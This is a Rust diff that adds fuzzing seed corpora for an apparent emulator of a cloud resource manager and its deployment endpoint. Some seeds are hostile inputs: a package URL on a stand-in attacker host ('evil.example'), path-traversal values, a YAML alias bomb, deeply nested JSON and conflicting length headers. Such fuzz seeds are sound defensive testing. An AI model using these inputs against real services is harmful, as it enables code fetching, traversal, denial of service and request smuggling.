@@ -30,6 +30,9 @@ pub fn write(corpus: &Path) -> io::Result<()> {
         let folder = corpus.join(target.name);
         fs::create_dir_all(&folder)?;
         let seeds: BTreeSet<Vec<u8>> = match target.name {
+            "arm_body" => arm_bodies(),
+            "arm_filter" => arm_filters(),
+            "arm_path" => arm_paths(),
             "backup" => backups(),
             "assertion" => assertions(),
             "bearer" => bearers(),
@@ -44,6 +47,8 @@ pub fn write(corpus: &Path) -> io::Result<()> {
             "pfx" => pfxs(),
             "record" => records(),
             "root_files" => root_files(),
+            "scm" => scm(),
+            "stack" => stacks(),
             "token_request" => token_requests(),
             "x509" => x509(),
             other => panic!("no seeds for {other}"),
@@ -141,6 +146,214 @@ fn routes() -> BTreeSet<Vec<u8>> {
     let seeds: BTreeSet<_> = routes.map(String::into_bytes).collect();
     // Every other one, which leaves room for what is found.
     seeds.into_iter().step_by(3).collect()
+}
+
+/// A request to the resource manager below the subscription.
+fn managed(method: &str, path: &str, query: &str, body: &str) -> Vec<u8> {
+    format!("{method} /subscriptions/{{subscription}}{path}?api-version=2025-05-01{query} management\n{body}")
+        .into_bytes()
+}
+
+const IN_GROUP: &str = "/resourceGroups/keyless/providers";
+
+/// Each route of the resource manager, and paths that are none.
+fn arm_paths() -> BTreeSet<Vec<u8>> {
+    let list = text("crates/wire/tests/routes.txt");
+    let routes = list.lines().filter_map(|line| {
+        let words: Vec<_> = line.split_whitespace().collect();
+        let (listener, method, path) = (*words.first()?, words.get(1)?, words.get(2)?);
+        let path = path.replace("{name}", "keyless");
+        let line = format!("{method} {path}?api-version=2025-05-01 management");
+        (listener == "management").then(|| line.into_bytes())
+    });
+    let mut seeds: BTreeSet<_> = routes.collect();
+    for (method, path, query) in [
+        ("GET", "//resourcegroups/KEYLESS/", ""),
+        ("HEAD", "/resourceGroups/keyless", ""),
+        ("HEAD", "/resourceGroups/none", ""),
+        ("GET", "/resourceGroups/key%2Fless", ""),
+        ("GET", "/resourceGroups/%ff", ""),
+        ("GET", "/resourceGroups/..", ""),
+        ("GET", "/resources", "&$filter=resourceType%20eq%20'Microsoft.Web/sites'"),
+        ("GET", "/providers/Microsoft.Authorization/roleDefinitions", "&$filter=roleName%20eq%20'Owner'"),
+        ("GET", "/providers/Microsoft.Authorization/providers/Microsoft.Authorization/roleAssignments", ""),
+        ("DELETE", "/resourceGroups/keyless", ""),
+        (
+            "DELETE",
+            "/resourceGroups/keyless/providers/Microsoft.Web/sites/none",
+            "&deleteEmptyServerFarm=false",
+        ),
+        ("GET", "/resourceGroups/keyless/providers/Microsoft.Web/sites/web/config/web", ""),
+        ("POST", "/resourceGroups/keyless/providers/Microsoft.Web/sites/web/config/appsettings/list", ""),
+        ("GET", "/resourceGroups/keyless/providers/Microsoft.Web/sites/web/deploymentStatus/x", ""),
+        ("POST", "/providers/Microsoft.KeyVault/locations/local/deletedVaults/shop/purge", ""),
+        ("GET", &*"/a".repeat(25), ""),
+        ("GET", &*format!("/resourceGroups/{}", "g".repeat(91)), ""),
+    ] {
+        seeds.insert(managed(method, path, query, ""));
+    }
+    seeds.insert(b"GET /metadata/endpoints?api-version=2022-09-01 management".to_vec());
+    seeds.insert(b"GET /tenants?api-version=latest management".to_vec());
+    seeds.insert(b"GET /subscriptions management".to_vec());
+    seeds
+}
+
+/// What clients send, and what none does.
+fn arm_bodies() -> BTreeSet<Vec<u8>> {
+    let put = |path: &str, body: Value| managed("PUT", &format!("{IN_GROUP}/{path}"), "", &body.to_string());
+    let site = |config: Value| {
+        json!({"location": "local", "kind": "app,linux", "tags": {"a": "b"}, "identity": {"type": "SystemAssigned"},
+            "properties": {"serverFarmId": "keyless", "httpsOnly": true, "siteConfig": config}})
+    };
+    let policies = json!([{"tenantId": "{tenant}", "objectId": "{app.principal}",
+        "permissions": {"keys": ["Get"], "secrets": ["all"], "certificates": ["list"]}}]);
+    let vault = json!({"location": "local", "properties": {"tenantId": "{tenant}", "sku": {"family": "A", "name": "standard"},
+        "accessPolicies": policies, "enableRbacAuthorization": false, "softDeleteRetentionInDays": 90,
+        "networkAcls": {"defaultAction": "Deny", "bypass": "None", "ipRules": [{"value": "192.0.2.0/24"}]}}});
+    let role = json!({"properties": {"principalId": "{app.principal}", "principalType": "ServicePrincipal",
+        "roleDefinitionId": "/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"}});
+    let definition = json!({"properties": {"roleName": "Auditor", "description": "d", "type": "CustomRole",
+        "permissions": [{"actions": ["*/read"], "notActions": [], "dataActions": [], "notDataActions": []}],
+        "assignableScopes": ["/subscriptions/{subscription}"]}});
+    let federated = json!({"properties": {"issuer": "https://token.example", "subject": "repo:o/r",
+        "audiences": ["api://AzureADTokenExchange"]}});
+    let id = "11111111-2222-4333-8444-555555555555";
+    let mut seeds: BTreeSet<_> = [
+        managed("PUT", "/resourceGroups/red", "", r#"{"location":"West Europe","tags":{"a":"b"}}"#),
+        managed("PATCH", "/resourceGroups/keyless", "", r#"{"tags":{"a":null}}"#),
+        put("Microsoft.KeyVault/vaults/till", vault),
+        put("Microsoft.KeyVault/vaults/shop/accessPolicies/add", json!({"properties": {"accessPolicies": policies}})),
+        put("Microsoft.KeyVault/vaults/till", json!({"location": "local", "properties": {"createMode": "recover"}})),
+        put("Microsoft.Web/serverfarms/cheap", json!({"location": "local", "sku": {"name": "B1", "capacity": 1}})),
+        put("Microsoft.Web/sites/web", site(json!({"linuxFxVersion": "PYTHON|3.12", "appSettings": [{"name": "KEY", "value": "canary-7"}]}))),
+        put("Microsoft.Web/sites/web", site(json!({"appCommandLine": "x", "alwaysOn": true, "healthCheckPath": "/"}))),
+        put("Microsoft.Web/sites/web/config/appsettings", json!({"properties": {"KEY": "canary-7", "MODE": "fast"}})),
+        put("Microsoft.Web/sites/web/config/connectionstrings", json!({"properties": {"DB": {"value": "canary-7", "type": "Custom"}}})),
+        put("Microsoft.Web/sites/web/config/slotConfigNames", json!({"properties": {"appSettingNames": ["KEY"]}})),
+        put("Microsoft.Web/sites/web/config/logs", json!({"properties": {"applicationLogs": {"fileSystem": {"level": "Off"}}}})),
+        put("Microsoft.Web/sites/web/config/metadata", json!({"properties": {"CURRENT_STACK": "python"}})),
+        put("Microsoft.Web/sites/web/basicPublishingCredentialsPolicies/scm", json!({"properties": {"allow": true}})),
+        put("Microsoft.ManagedIdentity/userAssignedIdentities/readers", json!({"location": "local"})),
+        put("Microsoft.ManagedIdentity/userAssignedIdentities/readers/federatedIdentityCredentials/main", federated),
+        put(&format!("Microsoft.Web/sites/web/providers/Microsoft.Authorization/roleAssignments/{id}"), role.clone()),
+        managed("PUT", &format!("/providers/Microsoft.Authorization/roleAssignments/{id}"), "", &role.to_string()),
+        managed("PUT", &format!("/providers/Microsoft.Authorization/roleDefinitions/{id}"), "", &definition.to_string()),
+        managed("POST", "/providers/Microsoft.KeyVault/checkNameAvailability", "", r#"{"name":"shop","type":"Microsoft.KeyVault/vaults"}"#),
+        managed("POST", "/providers/Microsoft.Web/checknameavailability", "", r#"{"name":"web","type":"Site"}"#),
+    ]
+    .into();
+    let settings = |body: &str| {
+        managed("PUT", &format!("{IN_GROUP}/Microsoft.Web/sites/web/config/appsettings"), "", body)
+    };
+    for body in [
+        "[".repeat(3_000),
+        format!("{}1{}", r#"{"properties":"#.repeat(400), "}".repeat(400)),
+        r#"{"properties":{"KEY":"canary-7","KEY":["canary-7"]}}"#.to_owned(),
+        r#"{"properties":{"KEY":{"canary-7":1e400}}}"#.to_owned(),
+        r#"{"properties":{"\u0000":"canary-7","PATH":"canary-7"}}"#.to_owned(),
+        r#"{"properties":"canary-7"}"#.to_owned(),
+        r#"{"properties":null,"Properties":{"A":"b"}}"#.to_owned(),
+    ] {
+        seeds.insert(settings(&body));
+    }
+    seeds
+}
+
+fn arm_filters() -> BTreeSet<Vec<u8>> {
+    let id = "11111111-2222-4333-8444-555555555555";
+    [
+        "resourceType eq 'Microsoft.KeyVault/vaults' and name eq 'It''s'",
+        "RESOURCEGROUP eq 'keyless'",
+        "location EQ 'local' AND name eq 'web'",
+        "tagName eq 'x'",
+        "atScope()",
+        "atScopeAndBelow() and type eq 'CustomRole'",
+        &format!("atScope() and assignedTo('{id}')"),
+        &format!("principalId eq '{id}'"),
+        "roleName eq 'Key Vault Secrets User' and type eq 'BuiltInRole'",
+        "roleName eq 'a' or roleName eq 'b'",
+        "name eq '",
+        "eq eq 'eq' and and eq 'and'",
+        "é eq 'x'",
+        "",
+        &"name eq 'x' and ".repeat(60),
+        &format!("name eq '{}'", "''".repeat(600)),
+    ]
+    .iter()
+    .map(|filter| filter.as_bytes().to_vec())
+    .collect()
+}
+
+/// What `az webapp deploy` sends and asks after.
+fn scm() -> BTreeSet<Vec<u8>> {
+    let by = |line: &str, headers: &str, body: &[u8]| {
+        prefixed(format!("{line}\n{headers}authorization: Bearer {{deployment}}\n\n").as_bytes(), body)
+    };
+    let zip = raw::archive(&[raw::file("app.py", b"print(1)")]);
+    let zip_type = "content-type: application/zip\n";
+    [
+        by("POST /api/publish?type=zip&restart=True&ignorestack=&clean=True", zip_type, &zip),
+        by(
+            "POST /api/zipdeploy?isAsync=true",
+            "content-type: application/octet-stream\ncache-control: no-cache\n",
+            &zip,
+        ),
+        by("PUT /API/ZipDeploy/", zip_type, b"no zip"),
+        by("POST /api/publish?type=war", zip_type, &zip),
+        by("POST /api/publish?type=zip&path=/etc", zip_type, &zip),
+        by("POST /api/publish?type=zip&path=%2Fhome%2Fsite%2Fwwwroot%2F", zip_type, &zip),
+        by(
+            "POST /api/publish?type=zip",
+            "content-type: application/json\n",
+            br#"{"packageUri":"https://evil.example/x.zip"}"#,
+        ),
+        by("GET /api/deployments", "", b""),
+        by("GET /api/deployments/latest", "", b""),
+        by("GET /api/deployments/11111111-2222-4333-8444-555555555555/log", "", b""),
+        by("GET /logstream/application?x=%ff", "accept: text/event-stream\n", b""),
+        by("DELETE /api/zipdeploy", "", b""),
+        by("GET /api//zipdeploy", "", b""),
+        b"POST /api/zipdeploy\nauthorization: Basic eDp5\n\nPK".to_vec(),
+        b"POST /api/zipdeploy\nauthorization: Bearer {management}\n\nPK".to_vec(),
+        b"POST /api/zipdeploy\nauthorization: Bearer {deployment}\nauthorization: Bearer {token}\n\nPK"
+            .to_vec(),
+        b"POST /api/zipdeploy\ncontent-length: 99999999999999999999\ntransfer-encoding: chunked\n\nPK"
+            .to_vec(),
+    ]
+    .into()
+}
+
+/// What people write, and what costs a parser of YAML much.
+fn stacks() -> BTreeSet<Vec<u8>> {
+    let everything = text("crates/cli/src/apply/everything.yaml");
+    let bombs: String = ('b'..='i').fold("a: &a [x, x, x, x, x, x, x, x, x]\n".to_owned(), |text, name| {
+        let before = char::from(name as u8 - 1);
+        let many = vec![format!("*{before}"); 9].join(", ");
+        format!("{text}{name}: &{name} [{many}]\n")
+    });
+    let many: String = (0..400).map(|number| format!("- name: a{number}\n")).collect();
+    let mut seeds: BTreeSet<_> = [
+        everything.clone(),
+        everything.replace("- name:", "- &x\n  name:"),
+        bombs,
+        format!("apps:\n{many}"),
+        "[".repeat(2_000),
+        "a: ".repeat(1_000),
+        "apps: &a\n- name: web\nvaults: *a\n".to_owned(),
+        "vaults:\n- name: shop\n  access: roles\n  roles: [{role: Reader, app: web, secret: db}]\n"
+            .to_owned(),
+        "vaults:\n- name: shop\n  retention_days: 1e400\n".to_owned(),
+        "vaults:\n- <<: {name: shop}\n  secrets:\n  - {name: db, value: canary}\n".to_owned(),
+        "apps:\n- name: web\n  settings: {A: !!binary aGk=, B: !x y, C: 0x10, ? [d] : e}\n".to_owned(),
+        "apps:\n- name: web\n  settings: |\n   A: b\n  identity: yes\n".to_owned(),
+        "--- {}\n--- {}\n".to_owned(),
+        "%YAML 9.9\n---\ntenant: \"\\uD800\"\n".to_owned(),
+    ]
+    .into_iter()
+    .map(String::into_bytes)
+    .collect();
+    seeds.insert(b"\xef\xbb\xbftenant: x\r\napps: []\r\n\x00".to_vec());
+    seeds
 }
 
 /// Archives, and the files that say what is started.
